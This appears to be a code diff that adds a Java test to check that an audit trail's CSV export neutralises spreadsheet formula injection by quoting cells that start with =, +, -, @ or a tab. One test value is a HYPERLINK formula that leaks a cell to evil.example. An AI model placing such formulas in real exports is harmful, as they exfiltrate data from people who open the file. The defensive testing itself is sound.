@@ -61,6 +61,30 @@ class AuditExportTest extends ApiTestSupport {
     }
   }
 
+  /** F3: a value a spreadsheet runs as a formula was exported as it was; now it is text, and still verifies. */
+  @Test
+  void valuesASpreadsheetWouldRunAsFormulasAreExportedAsTextAndStillVerify() throws Exception {
+    String key = uniqueKey("audit-formula");
+    trail.append(new AuditRecord("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "", null, key, "+cmd", "ACCEPTED",
+        null, "@SUM(1+1)"));
+    trail.append(new AuditRecord("'=already quoted", "", null, key, "-1", "ACCEPTED", null, "\tTAB"));
+
+    HttpResponse<String> csv = get("auditor-1", "/api/v1/audit?format=csv&initiativeKey=" + key, null);
+    JsonNode json = api.get("auditor-1", "/api/v1/audit?initiativeKey=" + key).json();
+
+    List<String> cells = ExternalAuditCheck.cells(csv.body());
+    assertThat(cells).as("no cell starts a formula")
+        .noneMatch(c -> c != null && !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0);
+    assertThat(cells).contains("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "'+cmd", "'@SUM(1+1)",
+        "''=already quoted", "'-1", "'\tTAB");
+    List<List<String>> rows = ExternalAuditCheck.parseCsv(csv.body());
+    assertThat(rows.get(1).get(2)).isEqualTo(json.path("items").get(0).path("actor").asString());
+    assertThat(rows.get(2).get(2)).isEqualTo("'=already quoted");
+    for (List<String> row : rows.subList(1, rows.size())) {
+      assertThat(ExternalAuditCheck.hash(row)).as("hash of exported row %s", row).isEqualTo(row.get(11));
+    }
+  }
+
   @Test
   void aPeriodSelectsEntriesByTimeAndPagesLinkToTheNextOne() throws Exception {
     Instant before = Instant.now();
